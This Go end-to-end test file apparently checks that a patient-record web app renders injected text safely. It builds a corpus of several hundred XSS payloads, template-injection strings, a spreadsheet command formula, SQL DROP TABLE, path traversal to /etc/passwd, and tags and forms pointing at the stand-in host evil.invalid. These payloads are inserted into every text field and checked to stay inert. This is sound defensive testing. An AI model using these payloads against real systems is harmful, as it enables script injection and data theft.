package e2e

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"ribble/internal/browser"
	"ribble/internal/sandbox"
	"ribble/internal/sandbox/story"
)

// broken are texts that break out of where they stand, or act by themselves, where a page is careless. Each that runs sets a mark on the window.
var broken = []string{
	`<script>__x=1</script>`, `</script><script>__x=1</script>`, `<ScRiPt>__x=1</sCrIpT>`, `<script/src=data:,__x=1></script>`, `<script src="//evil.invalid/x.js"></script>`, `"><script>__x=1</script>`,
	`'><script>__x=1</script>`, `</title><script>__x=1</script>`, `</textarea><script>__x=1</script>`, `</style><script>__x=1</script>`, `</template><script>__x=1</script>`, `</noscript><script>__x=1</script>`,
	`--><script>__x=1</script>`, `]]><script>__x=1</script>`, `<<script>__x=1//<</script>`, `<script>__x=1`, `<scr<script>ipt>__x=1</scr</script>ipt>`, `&lt;script&gt;__x=1&lt;/script&gt;`,
	`&#60;script&#62;__x=1&#60;/script&#62;`, `%3Cscript%3E__x=1%3C/script%3E`, `\u003cscript\u003e__x=1\u003c/script\u003e`, `\x3cscript\x3e__x=1\x3c/script\x3e`, `＜script＞__x=1＜/script＞`,
	`javascript:__x=1`, `JaVaScRiPt:__x=1`, `java&#9;script:__x=1`, `data:text/html,<script>__x=1</script>`, `vbscript:__x=1`, `<a href="javascript:__x=1">press</a>`, `<a href=data:text/html,x>press</a>`,
	`<iframe src="javascript:parent.__x=1"></iframe>`, `<iframe srcdoc="<script>parent.__x=1</script>"></iframe>`, `<object data="javascript:__x=1"></object>`, `<embed src="javascript:__x=1">`,
	`<base href="//evil.invalid/">`, `<meta http-equiv="refresh" content="0;url=//evil.invalid/">`, `<link rel=stylesheet href="//evil.invalid/x.css">`, `<style>*{display:none}</style>`, `<style>@import "//evil.invalid/x.css";</style>`,
	`<form action="//evil.invalid/"><input name=nhs><button>Send</button></form>`, `<input formaction="//evil.invalid/" type=submit>`, `<isindex type=image src=1 onerror=__x=1>`, `<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=__x=1 src>">`,
	`<svg><script>__x=1</script></svg>`, `<svg><animate onbegin=__x=1 attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>__x=1</script></svg>#x"/></svg>`, `<svg><a xlink:href="javascript:__x=1"><text y=20>x</text></a></svg>`,
	`<template shadowrootmode=open><script>__x=1</script></template>`, `</template></div></div><slot name=person></slot>`, `<div slot="flags">no allergies</div>`, `<slot name=allergies>`, `<dialog open>x</dialog>`, `<plaintext>`, `<xmp><script>__x=1</script></xmp>`,
	`{{constructor.constructor('__x=1')()}}`, `{{7*7}}`, `${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{%raw%}`, `[[7*7]]`, `" autofocus onfocus=__x=1 x="`, `' autofocus onfocus=__x=1 x='`, "` onload=__x=1 x=`", `" style="position:fixed;inset:0" x="`,
	`" onmouseover="__x=1`, `x" tabindex=1 onfocus="__x=1`, `<img src=x:x onerror="__x=1"//`, `<img src="x` + "`" + `<script>__x=1</script>"` + "`" + `>`, `<!--<img src="--><img src=x onerror=__x=1//">`, `<comment><img src="</comment><img src=x onerror=__x=1//">`,
	`=HYPERLINK("http://evil.invalid","x")`, `@SUM(1+1)*cmd|' /C calc'!A0`, `'; DROP TABLE audit.event; --`, `../../../../etc/passwd`, `%s%n%x%d`, "a\u202eb txt.exe", "\u200b\u200bzero", `Z͑ͫ̓ͪ̂ͫ̽͏a`, `&nbsp;&lt;&amp;&quot;`, `K+ < 3.5 & Na+ > 150`,
}

// handlers and carriers make the rest of the corpus: each event at each element that could raise it by itself.
var (
	carriers = []string{"img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "select autofocus", "iframe src=x", "object data=x", "marquee", "math"}
	events   = []string{"onerror", "onload", "onfocus", "onstart", "ontoggle", "onbegin", "onpageshow", "onanimationstart", "onloadstart", "onmouseenter", "onpointerover", "oncontentvisibilityautostatechange", "onfocusin", "onscrollend", "onbeforetoggle", "onsecuritypolicyviolation", "onresize", "oncanplay", "onunhandledrejection"}
)

func payloads() []string {
	all := slices.Clone(broken)
	for _, carrier := range carriers {
		for _, event := range events {
			all = append(all, "<"+carrier+" "+event+"=__x=1>")
		}
	}
	return all
}

// perText is how many payloads stand in each text. The first of them stands at its beginning, where some act only.
const perText = 25

// texts are the fields of a story that are words for people.
var texts = map[string]bool{
	"Text": true, "Display": true, "Title": true, "Description": true, "Dose": true, "Instruction": true, "PharmacyNote": true, "StopReason": true, "QuantityWords": true, "OnsetWords": true, "WhenWords": true,
	"EndReason": true, "Note": true, "Notes": true, "Words": true, "Comment": true, "Conclusion": true, "Name": true, "Maker": true, "Placeholder": true, "Family": true, "Given": true, "Lines": true, "City": true,
	"What": true, "LinkWords": true, "Implant": true, "Device": true, "Unit": true,
}

// afflicted are the people with the payloads, in order.
var afflicted []string

// afflict adds a copy of the main story for each part of the corpus, with that part in every text. It gives how many texts there are.
func afflict(w *sandbox.World) error {
	whole, _ := w.Person(edith)
	raw, err := json.Marshal(whole)
	if err != nil {
		return err
	}
	middle := 800_000
	for part := range slices.Chunk(payloads(), perText) {
		var tree any
		if err := json.Unmarshal(raw, &tree); err != nil {
			return err
		}
		changed, err := json.Marshal(afflicting(tree, "", framed(len(afflicted), part)))
		if err != nil {
			return err
		}
		var p story.Person
		if err := json.Unmarshal(changed, &p); err != nil {
			return err
		}
		number, ok := story.TestNumber(middle)
		for _, taken := w.Person(number); !ok || taken; _, taken = w.Person(number) {
			middle++
			number, ok = story.TestNumber(middle)
		}
		middle++
		p.NHSNumber, p.Story, p.Superseded = number, "", nil
		for i := range p.Holdings {
			p.Holdings[i].LocalID = ""
			if as := p.Holdings[i].As; as != nil {
				as.NHSNumber = number
			}
		}
		w.Add(p)
		afflicted = append(afflicted, number)
	}
	return nil
}

// framed is a part of the corpus between two words by which a test finds it again.
func framed(n int, part []string) string {
	return strings.Join(part, " ") + fmt.Sprintf(" end%dofpart", n)
}

// afflicting puts the payloads before every text of the tree: it then begins with the first of them.
func afflicting(node any, key string, with string) any {
	switch n := node.(type) {
	case map[string]any:
		for k, v := range n {
			n[k] = afflicting(v, k, with)
		}
	case []any:
		for i, v := range n {
			n[i] = afflicting(v, key, with)
		}
	case string:
		if texts[key] && n != "" {
			return with + " " + n
		}
	}
	return node
}

// TestPayloadsAreOnlyText opens records in whose every text hostile words stand: each is shown exactly, and none does anything.
func TestPayloadsAreOnlyText(t *testing.T) {
	corpus := payloads()
	if len(corpus) < 300 {
		t.Fatalf("only %d payloads", len(corpus))
	}
	const perTab = 4 // a tab has two minutes
	var p *browser.Page
	shown, quiet := 0, 0
	for i, part := range slices.Collect(slices.Chunk(corpus, perText)) {
		if i%perTab == 0 {
			p = tab(t)
			signIn(t, p, "kerr")
			// What the sandbox's own sign-in page lacks is no concern of the record.
			quiet = len(p.Complaints())
		}
		open(p, afflicted[i])
		if got := p.Eval("typeof window.__x"); got != "undefined" {
			t.Errorf("part %d: a text was executed", i)
		}
		raw, err := json.Marshal(framed(i, part))
		if err != nil {
			t.Fatal(err)
		}
		// Every text ends with the word of its part: what stands before that word must be the part as it was sent, but for white space.
		found := p.Eval(`(() => {
			const flat = s => s.replace(/\s+/g, " "), want = flat(` + string(raw) + `), end = want.slice(want.lastIndexOf(" ") + 1);
			const all = flat(document.documentElement.textContent), lower = all.toLowerCase(), upper = flat(want.toUpperCase());
			let good = 0, bad = [];
			for (let at = lower.indexOf(end); at >= 0; at = lower.indexOf(end, at + 1)) {
				const said = all.slice(Math.max(0, at + end.length - want.length), at + end.length);
				if (said === want || said.toUpperCase() === upper) good++; else bad.push(said.slice(0, 200));
			}
			return JSON.stringify([good, bad.length, bad.slice(0, 3)]);
		})()`)
		var counted [3]json.RawMessage
		var good, bad int
		if err := json.Unmarshal([]byte(found), &counted); err != nil {
			t.Fatalf("%v: %s", err, found)
		}
		_, _ = json.Unmarshal(counted[0], &good), json.Unmarshal(counted[1], &bad)
		if good < 50 || bad > 0 {
			t.Errorf("part %d: %d texts are shown as they were sent, %d are not: %s", i, good, bad, counted[2])
		}
		shown += good
		if got := p.Eval(`document.querySelectorAll(".rb-record :is(script,img,iframe,object,embed,video,audio,math,base,link,style,marquee,form[action*=evil],[srcdoc]), .rb-record [href^='javascript' i], .rb-record [href*='evil']").length`); got != "0" {
			t.Errorf("part %d: %s elements came out of texts", i, got)
		}
		if got := p.Eval(`[...document.querySelectorAll(".rb-record *")].flatMap(e => [...e.attributes]).filter(a => a.name.startsWith("on")).length`); got != "0" {
			t.Errorf("part %d: %s handlers came out of texts", i, got)
		}
		if c := p.Complaints(); len(c) > quiet {
			t.Errorf("part %d: the console says %.300q", i, c[quiet:])
		}
	}
	t.Logf("%d payloads; %d texts shown exactly, each with %d payloads or the rest", len(corpus), shown, perText)
}
